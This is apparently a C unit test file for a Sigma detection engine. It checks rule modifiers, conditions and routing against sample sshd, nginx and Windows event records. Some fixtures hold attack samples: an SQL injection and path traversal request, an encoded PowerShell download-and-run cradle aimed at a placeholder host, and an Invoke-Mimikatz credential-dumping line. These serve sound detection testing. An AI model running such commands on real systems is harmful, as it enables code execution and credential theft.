/* Unit tests: Sigma matching - every modifier, condition forms, null and
 * exists, case rules, field mapping, log-source routing, keywords, and the
 * alert's rule fields. Events are real log lines (sshd, nginx) and Windows
 * event records in evtx_dump's JSON shape, decoded with canh_decode_record. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "canh/decode.h"
#include "canh/detect.h"
#include "detect_sigma_int.h"

/* 2026-11-21T00:00:00Z */
#define NOW (INT64_C(1795219200) * CANH_NS_PER_SEC)

static canh_decode_t *dec;
static canh_event_t *ev;

static int setup(void **st)
{
    (void)st;
    canh_errbuf_t eb;
    canh_decode_opts_t o = {.tref = {NOW, 0}, .type = NULL};
    if (canh_decode_create(&o, &dec, &eb) != CANH_OK)
        return -1;
    ev = canh_event_create();
    return ev ? 0 : -1;
}

static int teardown(void **st)
{
    (void)st;
    canh_event_destroy(ev);
    canh_decode_destroy(dec);
    return 0;
}

/* ---- helpers --------------------------------------------------------------------------- */

typedef struct reported {
    unsigned n;
    char last[512];
    canh_rule_status_t st;
} reported_t;

static void on_report(void *ud, const char *file, unsigned line, const char *id, const char *title,
                      canh_rule_status_t st, const char *reason)
{
    reported_t *r = ud;
    (void)title;
    r->n++;
    r->st = st;
    snprintf(r->last, sizeof r->last, "%s:%u: %s: %s", file, line, id ? id : "-", reason);
}

/* Compiles text; every rule in it must compile (fully unless partial_ok). */
static canh_rules_t *compile_ok(const char *text, bool partial_ok)
{
    canh_rules_t *r = NULL;
    canh_errbuf_t eb = {{0}};
    reported_t rep = {0};
    int rc = sg_rules_compile_mem("t.yml", text, strlen(text), on_report, &rep, &r, &eb);
    if (rc != CANH_OK)
        fail_msg("compile: %s", eb.msg);
    if (rep.n && !(partial_ok && rep.st == CANH_RULE_PARTIAL))
        fail_msg("rule not compiled: %s", rep.last);
    return r;
}

typedef struct hits {
    unsigned n;
    canh_alert_t last;
    char ids[1024];
} hits_t;

static int on_alert(void *ud, const canh_alert_t *a, const canh_event_t *e)
{
    hits_t *h = ud;
    (void)e;
    h->n++;
    h->last = *a;
    size_t l = strlen(h->ids);
    snprintf(h->ids + l, sizeof h->ids - l, "%s%s", l ? "," : "", a->rule_id);
    return 0;
}

/* Decodes rec and returns how many alerts r raises on it. */
static unsigned run(canh_rules_t *r, const char *rec, hits_t *out)
{
    canh_detector_t *d;
    hits_t h = {0};
    assert_int_equal(canh_detector_create(r, &d), CANH_OK);
    canh_decode_record(dec, rec, strlen(rec), ev);
    int n = canh_detector_run(d, ev, on_alert, &h);
    assert_true(n >= 0);
    assert_int_equal((unsigned)n, h.n);
    canh_detector_destroy(d);
    if (out)
        *out = h;
    return h.n;
}

/* Compiles one rule and tells whether it matches rec. */
static bool hit(const char *rule, const char *rec)
{
    canh_rules_t *r = compile_ok(rule, false);
    unsigned n = run(r, rec, NULL);
    canh_rules_destroy(r);
    return n > 0;
}

#define WEB_RULE(det)                                                                              \
    "title: t\nid: w1\nlogsource:\n  category: webserver\ndetection:\n" det "level: high\n"
#define SSHD_RULE(det)                                                                             \
    "title: t\nid: s1\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n" det
#define PROC_RULE(det)                                                                             \
    "title: t\nid: p1\nlogsource:\n  product: windows\n  category: process_creation\n"             \
    "detection:\n" det

static const char *NGINX =
    "203.0.113.7 - - [21/Nov/2026:00:00:00 +0700] \"GET /shop/index.php?id=1%27%20UNION%20SELECT"
    "&Path=../../etc/passwd HTTP/1.1\" 404 512 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"";
static const char *NGINX_OK =
    "198.51.100.20 - - [21/Nov/2026:00:00:01 +0700] \"POST /api/v1/login HTTP/1.1\" 200 77 "
    "\"https://portal.example.gov.vn/\" \"Mozilla/5.0 (X11; Linux x86_64)\"";
static const char *SSHD = "Nov 21 00:00:00 web02 sshd[12001]: Failed password for invalid user "
                          "admin from 10.1.2.3 port 40022 ssh2";
static const char *SSHD_V6 = "Nov 21 00:00:02 web02 sshd[12003]: Accepted publickey for deploy "
                             "from 2001:db8::7 port 50100 ssh2";

/* A Windows event record in evtx_dump's JSON shape. */
static char winbuf[8192];
static const char *win(unsigned eid, const char *channel, const char *data)
{
    const char *prov = strstr(channel, "Sysmon")     ? "Microsoft-Windows-Sysmon"
                       : strcmp(channel, "Security") ? "Microsoft-Windows-PowerShell"
                                                     : "Microsoft-Windows-Security-Auditing";
    snprintf(winbuf, sizeof winbuf,
             "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"%s\"}},"
             "\"EventID\":%u,\"Channel\":\"%s\",\"Computer\":\"ws01\",\"TimeCreated\":"
             "{\"#attributes\":{\"SystemTime\":\"2026-04-17T05:24:53.092051Z\"}}},"
             "\"EventData\":{%s}}}",
             prov, eid, channel, data);
    return winbuf;
}
#define SYSMON "Microsoft-Windows-Sysmon/Operational"

static const char *PROC_PS =
    "\"Image\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\","
    "\"CommandLine\":\"powershell.exe -NoP -w hidden -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8Ad"
    "wBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AeAAiACkA\","
    "\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\",\"User\":\"CORP\\\\alice\","
    "\"IntegrityLevel\":\"High\",\"Hashes\":\"SHA256=AB12,IMPHASH=FF00\"";

/* ---- modifiers ------------------------------------------------------------------------------ */

static void test_equals_and_case(void **st)
{
    (void)st;
    /* Default matching is case-insensitive, and equals means the whole value. */
    assert_true(hit(WEB_RULE("  sel:\n    cs-method: get\n  condition: sel\n"), NGINX));
    assert_false(hit(WEB_RULE("  sel:\n    cs-method: GE\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    sc-status: 404\n  condition: sel\n"), NGINX));
    /* |cased makes it case-sensitive. */
    assert_false(hit(WEB_RULE("  sel:\n    cs-method|cased: get\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    cs-method|cased: GET\n  condition: sel\n"), NGINX));
    assert_false(hit(
        WEB_RULE("  sel:\n    cs-user-agent|contains|cased: SQLMAP\n  condition: sel\n"), NGINX));
    assert_true(
        hit(WEB_RULE("  sel:\n    cs-user-agent|contains: SQLMAP\n  condition: sel\n"), NGINX));
}

static void test_contains_startswith_endswith(void **st)
{
    (void)st;
    assert_true(hit(WEB_RULE("  sel:\n    cs-uri-query|contains: 'union%20select'\n"
                             "  condition: sel\n"),
                    NGINX));
    assert_true(
        hit(WEB_RULE("  sel:\n    cs-uri-query|startswith: '/SHOP/'\n  condition: sel\n"), NGINX));
    assert_false(
        hit(WEB_RULE("  sel:\n    cs-uri-query|startswith: 'shop/'\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    cs-uri-query|endswith: 'etc/passwd'\n  condition: sel\n"),
                    NGINX));
    assert_false(
        hit(WEB_RULE("  sel:\n    cs-uri-query|endswith: 'etc'\n  condition: sel\n"), NGINX));
    /* A literal that occurs more than once: the test is on its last (ends
     * with) or first (starts with) occurrence. */
    static const char *rep =
        "203.0.113.9 - - [21/Nov/2026:00:00:00 +0700] \"GET /abc/abc HTTP/1.1\" "
        "200 5 \"-\" \"curl/8.4.0\"";
    assert_true(
        hit(WEB_RULE("  sel:\n    cs-uri-query|endswith: '/abc'\n  condition: sel\n"), rep));
    assert_true(
        hit(WEB_RULE("  sel:\n    cs-uri-query|startswith: '/abc'\n  condition: sel\n"), rep));
    assert_false(hit(WEB_RULE("  sel:\n    cs-uri-query: '/abc'\n  condition: sel\n"), rep));
    assert_true(hit(WEB_RULE("  sel:\n    cs-uri-query: '/abc/abc'\n  condition: sel\n"), rep));
}

static void test_wildcards_and_escapes(void **st)
{
    (void)st;
    assert_true(
        hit(WEB_RULE("  sel:\n    cs-uri-query: '/shop/*.php?id=*'\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    cs-method: 'G?T'\n  condition: sel\n"), NGINX));
    assert_false(hit(WEB_RULE("  sel:\n    cs-method: 'G?'\n  condition: sel\n"), NGINX));
    /* '*' alone: any value, the field must be present. */
    assert_true(hit(WEB_RULE("  sel:\n    cs-referer: '*'\n  condition: sel\n"), NGINX_OK));
    assert_false(hit(WEB_RULE("  sel:\n    cs-referer: '*'\n  condition: sel\n"), NGINX)); /* "-" */
    assert_false(hit(WEB_RULE("  sel:\n    cs-username: '*'\n  condition: sel\n"), NGINX));
    /* An escaped '*' and '?' are literal. */
    assert_false(
        hit(WEB_RULE("  sel:\n    cs-uri-query|contains: 'index\\*'\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    cs-uri-query|contains: 'index.php\\?id'\n"
                             "  condition: sel\n"),
                    NGINX));
    /* A backslash before anything else is itself (Windows paths). */
    assert_true(hit(PROC_RULE("  sel:\n    Image|endswith: '\\powershell.exe'\n  condition: sel\n"),
                    win(1, SYSMON, PROC_PS)));
    /* "\*" is an escaped (literal) star; "\\*" is a backslash then a wildcard. */
    assert_false(hit(PROC_RULE("  sel:\n    Image: 'C:\\Windows\\*\\powershell.exe'\n"
                               "  condition: sel\n"),
                     win(1, SYSMON, PROC_PS)));
    assert_true(hit(PROC_RULE("  sel:\n    Image: 'C:\\Windows\\\\*\\powershell.exe'\n"
                              "  condition: sel\n"),
                    win(1, SYSMON, PROC_PS)));
    /* "\\\\" is one backslash before a wildcard-free tail. */
    assert_true(hit(PROC_RULE("  sel:\n    User: 'CORP\\\\alice'\n  condition: sel\n"),
                    win(1, SYSMON, PROC_PS)));
}

static void test_all(void **st)
{
    (void)st;
    assert_true(
        hit(WEB_RULE("  sel:\n    cs-uri-query|contains|all:\n      - union\n      - select\n"
                     "  condition: sel\n"),
            NGINX));
    assert_false(
        hit(WEB_RULE("  sel:\n    cs-uri-query|contains|all:\n      - union\n      - drop\n"
                     "  condition: sel\n"),
            NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    cs-uri-query|contains:\n      - union\n      - drop\n"
                             "  condition: sel\n"),
                    NGINX));
}

static void test_re(void **st)
{
    (void)st;
    /* Regular expressions search anywhere and are case-sensitive. */
    assert_true(
        hit(WEB_RULE("  sel:\n    cs-uri-query|re: 'id=\\d+%27'\n  condition: sel\n"), NGINX));
    assert_false(
        hit(WEB_RULE("  sel:\n    cs-uri-query|re: 'UNION%20select'\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    cs-uri-query|re|i: 'UNION%20select'\n  condition: sel\n"),
                    NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    cs-uri-query|re: '^/shop/'\n  condition: sel\n"), NGINX));
    assert_false(hit(WEB_RULE("  sel:\n    cs-uri-query|re: '^shop/'\n  condition: sel\n"), NGINX));
    /* startswith/endswith anchor a regex. */
    assert_true(hit(
        WEB_RULE("  sel:\n    cs-uri-query|re|startswith: '/sh[o]p'\n  condition: sel\n"), NGINX));
    assert_false(
        hit(WEB_RULE("  sel:\n    cs-uri-query|re|endswith: 'sh[o]p'\n  condition: sel\n"), NGINX));
    /* m: ^ and $ at line breaks; s: . matches a line break. The keywords
     * search runs over the raw record; a PowerShell script block has lines. */
    static const char *script =
        "\"ScriptBlockText\":\"$a = 1\\nInvoke-Mimikatz -DumpCreds\\n$b = 2\"";
    const char *ev_txt = win(4104, "Microsoft-Windows-PowerShell/Operational", script);
    char *copy = strdup(ev_txt);
#define PS                                                                                         \
    "title: t\nid: ps\nlogsource:\n  product: windows\n  category: ps_script\n"                    \
    "detection:\n  sel:\n    ScriptBlockText|re%s: '%s'\n  condition: sel\n"
    char rule[512];
    snprintf(rule, sizeof rule, PS, "", "^Invoke-Mimikatz");
    assert_false(hit(rule, copy));
    snprintf(rule, sizeof rule, PS, "|m", "^Invoke-Mimikatz");
    assert_true(hit(rule, copy));
    snprintf(rule, sizeof rule, PS, "", "1.Invoke");
    assert_false(hit(rule, copy));
    snprintf(rule, sizeof rule, PS, "|s", "1.Invoke");
    assert_true(hit(rule, copy));
    free(copy);
}

static void test_cidr(void **st)
{
    (void)st;
    static const char *r = SSHD_RULE("  sel:\n    source.ip|cidr:\n      - 10.0.0.0/8\n"
                                     "      - 2001:db8::/32\n  condition: sel\n");
    assert_true(hit(r, SSHD));
    assert_true(hit(r, SSHD_V6));
    assert_false(
        hit(SSHD_RULE("  sel:\n    source.ip|cidr: 10.1.3.0/24\n  condition: sel\n"), SSHD));
    assert_true(hit(SSHD_RULE("  sel:\n    source.ip|cidr: 10.1.2.3\n  condition: sel\n"), SSHD));
    /* Host bits in the network are ignored. */
    assert_true(
        hit(SSHD_RULE("  sel:\n    source.ip|cidr: 10.1.2.99/24\n  condition: sel\n"), SSHD));
}

static void test_encodings(void **st)
{
    (void)st;
    const char *e = win(1, SYSMON, PROC_PS);
    char *copy = strdup(e);
    /* base64offset of the UTF-16LE text: a substring of the -enc payload. */
    assert_true(
        hit(PROC_RULE("  sel:\n    CommandLine|wide|base64offset|contains: 'Net.WebClient'\n"
                      "  condition: sel\n"),
            copy));
    assert_true(hit(PROC_RULE("  sel:\n    CommandLine|utf16le|base64offset|contains: "
                              "'DownloadString'\n  condition: sel\n"),
                    copy));
    assert_false(hit(PROC_RULE("  sel:\n    CommandLine|base64offset|contains: 'Net.WebClient'\n"
                               "  condition: sel\n"),
                     copy));
    free(copy);
    /* base64 of the whole text, and the UTF-16 forms, against literal payloads. */
#define TPL "\"Image\":\"C:\\\\x.exe\",\"CommandLine\":\"x.exe %s\""
    static const struct {
        const char *mods, *payload;
    } cases[] = {
        {"base64", "d2hvYW1p"},
        {"utf16le|base64", "dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=="},
        {"wide|base64", "dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=="},
        {"utf16be|base64", "AHcAaABvAGEAbQBpACAALwBhAGwAbA=="},
        {"utf16|base64", "//53AGgAbwBhAG0AaQAgAC8AYQBsAGwA"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char data[512], rule[512];
        snprintf(data, sizeof data, TPL, cases[i].payload);
        char *rec = strdup(win(1, SYSMON, data));
        snprintf(rule, sizeof rule,
                 PROC_RULE("  sel:\n    CommandLine|%s|contains: '%s'\n  condition: sel\n"),
                 cases[i].mods, i == 0 ? "whoami" : "whoami /all");
        if (!hit(rule, rec))
            fail_msg("%s: no match", cases[i].mods);
        free(rec);
    }
}

static void test_windash(void **st)
{
    (void)st;
    static const char *rule =
        PROC_RULE("  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel\n");
    static const char *forms[] = {"x.exe -enc AAA", "x.exe /enc AAA",
                                  "x.exe \xe2\x80\x93"
                                  "enc AAA",
                                  "x.exe \xe2\x80\x94"
                                  "enc AAA",
                                  "x.exe \xe2\x80\x95"
                                  "enc AAA"};
    for (size_t i = 0; i < 5; i++) {
        char data[256];
        snprintf(data, sizeof data, "\"Image\":\"C:\\\\x.exe\",\"CommandLine\":\"%s\"", forms[i]);
        char *rec = strdup(win(1, SYSMON, data));
        if (!hit(rule, rec))
            fail_msg("windash form %zu did not match", i);
        free(rec);
    }
    /* A dash inside a word is not expanded. */
    char *rec = strdup(win(1, SYSMON, "\"Image\":\"C:\\\\x.exe\",\"CommandLine\":\"x.exe a/b\""));
    assert_false(
        hit(PROC_RULE("  sel:\n    CommandLine|windash|contains: 'a-b'\n  condition: sel\n"), rec));
    free(rec);
}

static void test_exists_null(void **st)
{
    (void)st;
    assert_true(hit(WEB_RULE("  sel:\n    cs-referer|exists: true\n  condition: sel\n"), NGINX_OK));
    assert_false(hit(WEB_RULE("  sel:\n    cs-username|exists: true\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    cs-username|exists: false\n  condition: sel\n"), NGINX));
    /* null: absent or empty. */
    assert_true(hit(WEB_RULE("  sel:\n    cs-username: null\n  condition: sel\n"), NGINX));
    assert_false(hit(WEB_RULE("  sel:\n    cs-method: null\n  condition: sel\n"), NGINX));
    char *rec = strdup(win(1, SYSMON, "\"Image\":\"C:\\\\x.exe\",\"CommandLine\":\"\""));
    assert_true(hit(PROC_RULE("  sel:\n    CommandLine: null\n  condition: sel\n"), rec));
    assert_true(hit(PROC_RULE("  sel:\n    ParentImage: ~\n  condition: sel\n"), rec));
    assert_false(hit(PROC_RULE("  sel:\n    Image: null\n  condition: sel\n"), rec));
    /* in a list: null or a value */
    assert_true(hit(PROC_RULE("  sel:\n    ParentImage:\n      - null\n      - foo\n"
                              "  condition: sel\n"),
                    rec));
    free(rec);
}

static void test_numbers(void **st)
{
    (void)st;
    assert_true(hit(WEB_RULE("  sel:\n    sc-status|gte: 400\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    sc-status|gt: 403\n  condition: sel\n"), NGINX));
    assert_false(hit(WEB_RULE("  sel:\n    sc-status|gt: 404\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    sc-status|lte: 404\n  condition: sel\n"), NGINX));
    assert_false(hit(WEB_RULE("  sel:\n    sc-status|lt: 404\n  condition: sel\n"), NGINX));
    /* A value that is not a number never matches. */
    assert_false(hit(WEB_RULE("  sel:\n    cs-method|gt: 1\n  condition: sel\n"), NGINX));
}

static void test_fieldref_neq_time(void **st)
{
    (void)st;
    static const char *r =
        "title: t\nid: fr\nlogsource:\n  product: windows\n  category: file_delete\n"
        "detection:\n  sel:\n    TargetFilename|fieldref: Image\n  condition: sel\n";
    char *same = strdup(win(23, SYSMON,
                            "\"Image\":\"C:\\\\Temp\\\\a.exe\","
                            "\"TargetFilename\":\"c:\\\\temp\\\\A.EXE\""));
    char *other = strdup(win(23, SYSMON,
                             "\"Image\":\"C:\\\\Temp\\\\a.exe\","
                             "\"TargetFilename\":\"C:\\\\Temp\\\\b.exe\""));
    assert_true(hit(r, same));
    assert_false(hit(r, other));
    assert_true(hit("title: t\nid: fr\nlogsource:\n  product: windows\n  category: file_delete\n"
                    "detection:\n  sel:\n    TargetFilename|fieldref|endswith: Image\n"
                    "  condition: sel\n",
                    same));
    free(same);
    free(other);
    /* neq negates the item. */
    assert_false(hit(WEB_RULE("  sel:\n    cs-method|neq: GET\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    cs-method|neq: POST\n  condition: sel\n"), NGINX));
    /* Timestamp parts (UTC) of a date field. */
    char *rec =
        strdup(win(1, SYSMON, "\"Image\":\"C:\\\\x.exe\",\"UtcTime\":\"2026-04-17 05:24:53.079\""));
    assert_true(hit(PROC_RULE("  sel:\n    UtcTime|hour: 5\n  condition: sel\n"), rec));
    assert_true(hit(PROC_RULE("  sel:\n    UtcTime|month: 4\n  condition: sel\n"), rec));
    assert_true(hit(PROC_RULE("  sel:\n    UtcTime|week: 16\n  condition: sel\n"), rec));
    assert_false(hit(PROC_RULE("  sel:\n    UtcTime|day: 18\n  condition: sel\n"), rec));
    free(rec);
}

/* ---- keywords and conditions ------------------------------------------------------------ */

static void test_keywords(void **st)
{
    (void)st;
    assert_true(hit(SSHD_RULE("  keywords:\n    - 'failed password for invalid'\n"
                              "  condition: keywords\n"),
                    SSHD));
    assert_false(hit(SSHD_RULE("  keywords:\n    - 'publickey'\n  condition: keywords\n"), SSHD));
    /* A single keyword, and '|all'. */
    assert_true(hit(SSHD_RULE("  kw: 'web02 sshd'\n  condition: kw\n"), SSHD));
    assert_true(hit(SSHD_RULE("  kw:\n    '|all':\n      - 'invalid user'\n      - 'ssh2'\n"
                              "  condition: kw\n"),
                    SSHD));
    assert_false(hit(SSHD_RULE("  kw:\n    '|all':\n      - 'invalid user'\n      - 'ssh1'\n"
                               "  condition: kw\n"),
                     SSHD));
    /* Wildcards inside keywords, and a keyword regex. */
    assert_true(hit(SSHD_RULE("  kw:\n    - 'Failed * for * from 10.*'\n  condition: kw\n"), SSHD));
    assert_true(hit(SSHD_RULE("  kw:\n    '|re': 'port \\d{5} ssh2$'\n  condition: kw\n"), SSHD));
}

static void test_conditions(void **st)
{
    (void)st;
#define C3(cond)                                                                                   \
    WEB_RULE(                                                                                      \
        "  sel_a:\n    cs-method: GET\n  sel_b:\n    sc-status: 200\n  _x:\n    cs-method: PUT\n"  \
        "  filter:\n    cs-user-agent|contains: curl\n  condition: " cond "\n")
    assert_true(hit(C3("sel_a and not sel_b"), NGINX));
    assert_false(hit(C3("sel_a and sel_b"), NGINX));
    assert_true(hit(C3("sel_a or sel_b"), NGINX));
    assert_true(hit(C3("1 of sel_*"), NGINX));
    assert_false(hit(C3("all of sel_*"), NGINX));
    assert_true(hit(C3("not (sel_b or filter)"), NGINX));
    assert_false(hit(C3("not sel_a or sel_b"), NGINX));
    /* and binds tighter than or: (sel_b and x) or sel_a */
    assert_true(hit(C3("sel_b and filter or sel_a"), NGINX));
    assert_false(hit(C3("sel_b and (filter or sel_a)"), NGINX));
    /* them: every identifier except those starting with '_' */
    assert_true(hit(C3("1 of them"), NGINX));
    assert_false(hit(C3("all of them"), NGINX));
    assert_true(hit(WEB_RULE("  sel_a:\n    cs-method: GET\n  sel_b:\n    sc-status: 404\n"
                             "  _x:\n    cs-method: PUT\n  condition: all of them\n"),
                    NGINX));
    assert_true(hit(C3("any of sel_* AND NOT filter"), NGINX));
    /* A list of conditions: any of them. */
    assert_true(hit(WEB_RULE("  a:\n    cs-method: PUT\n  b:\n    cs-method: GET\n"
                             "  condition:\n    - a\n    - b\n"),
                    NGINX));
    /* A list of mappings is an OR. */
    assert_true(hit(
        WEB_RULE("  sel:\n    - cs-method: PUT\n    - sc-status: 404\n  condition: sel\n"), NGINX));
    assert_false(hit(WEB_RULE("  sel:\n    - cs-method: PUT\n    - sc-status: 200\n"
                              "  condition: sel\n"),
                     NGINX));
}

/* ---- routing and field mapping ------------------------------------------------------------- */

static void test_routing(void **st)
{
    (void)st;
    /* A web rule does not run on sshd lines and vice versa. */
    assert_false(hit(WEB_RULE("  kw:\n    - 'Failed password'\n  condition: kw\n"), SSHD));
    assert_false(hit(SSHD_RULE("  kw:\n    - 'sqlmap'\n  condition: kw\n"), NGINX));
    /* product linux alone takes every Linux log. */
    assert_true(hit("title: t\nlogsource:\n  product: linux\ndetection:\n  kw:\n    - 'sshd['\n"
                    "  condition: kw\n",
                    SSHD));
    /* Windows categories are Sysmon event ids... */
    static const char *fe = "title: t\nlogsource:\n  product: windows\n  category: file_event\n"
                            "detection:\n  sel:\n    Image|endswith: '\\powershell.exe'\n"
                            "  condition: sel\n";
    char *p1 = strdup(win(1, SYSMON, PROC_PS));
    char *p11 = strdup(win(11, SYSMON, PROC_PS));
    assert_false(hit(fe, p1));
    assert_true(hit(fe, p11));
    assert_true(
        hit(PROC_RULE("  sel:\n    Image|endswith: '\\powershell.exe'\n  condition: sel\n"), p1));
    assert_false(
        hit(PROC_RULE("  sel:\n    Image|endswith: '\\powershell.exe'\n  condition: sel\n"), p11));
    free(p1);
    free(p11);
    /* ...or Security 4688, where Image is NewProcessName. */
    char *sec = strdup(win(4688, "Security",
                           "\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\","
                           "\"ParentProcessName\":\"C:\\\\Windows\\\\explorer.exe\","
                           "\"CommandLine\":\"cmd.exe /c whoami\""));
    assert_true(hit(PROC_RULE("  sel:\n    Image|endswith: '\\cmd.exe'\n"
                              "    ParentImage|endswith: '\\explorer.exe'\n  condition: sel\n"),
                    sec));
    /* Services are channels. */
    assert_true(hit("title: t\nlogsource:\n  product: windows\n  service: security\n"
                    "detection:\n  sel:\n    EventID: 4688\n  condition: sel\n",
                    sec));
    assert_false(hit("title: t\nlogsource:\n  product: windows\n  service: system\n"
                     "detection:\n  sel:\n    EventID: 4688\n  condition: sel\n",
                     sec));
    free(sec);
}

static void test_field_mapping(void **st)
{
    (void)st;
    /* Sigma names through rules/mappings: web (cs-*), Windows EventData,
     * and ECS names used as-is when no mapping has them. */
    assert_true(hit(WEB_RULE("  sel:\n    c-ip: 203.0.113.7\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    source.ip: 203.0.113.7\n  condition: sel\n"), NGINX));
    assert_true(hit(WEB_RULE("  sel:\n    http.request.method: GET\n  condition: sel\n"), NGINX));
    assert_true(hit(SSHD_RULE("  sel:\n    user.name: admin\n    event.outcome: failure\n"
                              "  condition: sel\n"),
                    SSHD));
    char *p = strdup(win(1, SYSMON, PROC_PS));
    assert_true(hit(PROC_RULE("  sel:\n    IntegrityLevel: high\n    EventID: 1\n"
                              "    Provider_Name: Microsoft-Windows-Sysmon\n"
                              "    Channel: Microsoft-Windows-Sysmon/Operational\n"
                              "    Computer: WS01\n    Hashes|contains: 'IMPHASH=FF00'\n"
                              "  condition: sel\n"),
                    p));
    /* An unknown field is absent: it never matches, its negation always does. */
    assert_false(hit(PROC_RULE("  sel:\n    NoSuchField: x\n  condition: sel\n"), p));
    assert_true(hit(PROC_RULE("  sel:\n    NoSuchField: x\n  condition: not sel\n"), p));
    free(p);
    /* Classic PowerShell: Data is any of the unnamed Data elements. */
    static const char *classic =
        "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"PowerShell\"}},"
        "\"EventID\":400,\"Channel\":\"Windows PowerShell\",\"Computer\":\"ws01\"},"
        "\"EventData\":{\"Data\":[\"Available\",\"None\",\"\\tNewEngineState=Available\\n"
        "\\tHostName=ConsoleHost\\n\\tHostApplication=powershell.exe -v 2\"]}}}";
    assert_true(hit("title: t\nlogsource:\n  product: windows\n  category: ps_classic_start\n"
                    "detection:\n  sel:\n    Data|contains: 'HostApplication=powershell.exe -v 2'\n"
                    "  condition: sel\n",
                    classic));
}

static void test_json_array_field(void **st)
{
    (void)st;
    static const char *z =
        "{\"ts\":1700000000.1,\"uid\":\"C1\",\"id.orig_h\":\"10.0.0.5\",\"id.orig_p\":5353,"
        "\"id.resp_h\":\"10.0.0.1\",\"id.resp_p\":53,\"proto\":\"udp\",\"trans_id\":7,"
        "\"query\":\"pool.minexmr.com\",\"answers\":[\"1.2.3.4\",\"127.0.0.1\"],"
        "\"rejected\":false,\"_path\":\"dns\"}";
#define ZRULE                                                                                      \
    "title: t\nlogsource:\n  product: zeek\n  service: dns\ndetection:\n"                          \
    "  sel:\n    query|endswith: minexmr.com\n  excl:\n    answers: '%s'\n"                        \
    "  condition: sel and not excl\n"
    char r[512];
    snprintf(r, sizeof r, ZRULE, "127.0.0.1");
    assert_false(hit(r, z)); /* one element of the array is 127.0.0.1 */
    snprintf(r, sizeof r, ZRULE, "0.0.0.0");
    assert_true(hit(r, z));
}

static void test_alert_fields(void **st)
{
    (void)st;
    static const char *rule =
        "title: SQL Injection Strings In URI\nid: 5513deaf-f49a-46c2-a6c8-3f111b5cb453\n"
        "status: test\ndescription: Detects SQL injection\nauthor: Saw Win Naung\n"
        "references:\n  - https://example.org/a\n"
        "tags:\n  - attack.initial-access\n  - attack.t1190\n  - attack.t1059.001\n"
        "logsource:\n  category: webserver\ndetection:\n  sel:\n    cs-uri-query|contains: union\n"
        "  condition: sel\nfalsepositives:\n  - Vulnerability scanners\nlevel: high\n";
    canh_rules_t *r = compile_ok(rule, false);
    hits_t h;
    assert_int_equal(run(r, NGINX, &h), 1);
    assert_string_equal(h.last.rule_id, "5513deaf-f49a-46c2-a6c8-3f111b5cb453");
    assert_string_equal(h.last.rule_name, "SQL Injection Strings In URI");
    assert_string_equal(h.last.rule_source, "sigma");
    assert_int_equal(h.last.level, CANH_LEVEL_HIGH);
    static const struct {
        const char *k, *v;
        uint8_t type;
    } want[] = {
        {"rule.description", "Detects SQL injection", CANH_FT_KEYWORD},
        {"rule.author", "Saw Win Naung", CANH_FT_KEYWORD},
        {"rule.status", "test", CANH_FT_KEYWORD},
        {"rule.tags", "[\"attack.initial-access\",\"attack.t1190\",\"attack.t1059.001\"]",
         CANH_FT_RAW},
        {"threat.technique.id", "[\"T1190\",\"T1059.001\"]", CANH_FT_RAW},
        {"rule.reference", "[\"https://example.org/a\"]", CANH_FT_RAW},
        {"rule.falsepositives", "[\"Vulnerability scanners\"]", CANH_FT_RAW},
    };
    for (size_t i = 0; i < sizeof want / sizeof want[0]; i++) {
        bool found = false;
        for (size_t k = 0; k < h.last.nfields; k++) {
            const canh_kv_t *f = &h.last.fields[k];
            if (!canh_str_eq_c(f->key, want[i].k))
                continue;
            found = true;
            if (!canh_str_eq_c(f->val, want[i].v) || f->type != want[i].type)
                fail_msg("%s = %.*s", want[i].k, (int)f->val.n, f->val.p);
        }
        if (!found)
            fail_msg("%s missing", want[i].k);
    }
    canh_rules_destroy(r);
}

static void test_order_and_multiple(void **st)
{
    (void)st;
    /* Two rules in one file (YAML documents); alerts in rule order; a rule
     * with an anchor-less condition runs for every event of its route. */
    static const char *two =
        "title: b\nid: b\nlogsource:\n  category: webserver\ndetection:\n  s:\n    cs-method: GET\n"
        "  condition: s\n---\n"
        "title: a\nid: a\nlogsource:\n  category: webserver\ndetection:\n  s:\n    cs-method: PUT\n"
        "  condition: not s\n";
    canh_rules_t *r = compile_ok(two, false);
    hits_t h;
    assert_int_equal(canh_rules_count(r), 2);
    assert_int_equal(run(r, NGINX, &h), 2);
    assert_string_equal(h.ids, "b,a");
    assert_int_equal(run(r, NGINX_OK, &h), 1);
    assert_string_equal(h.ids, "a");
    assert_int_equal(sg_rule_find(r, "a"), 1);
    assert_int_equal(sg_rule_find(r, "b"), 0);
    canh_rules_destroy(r);
}

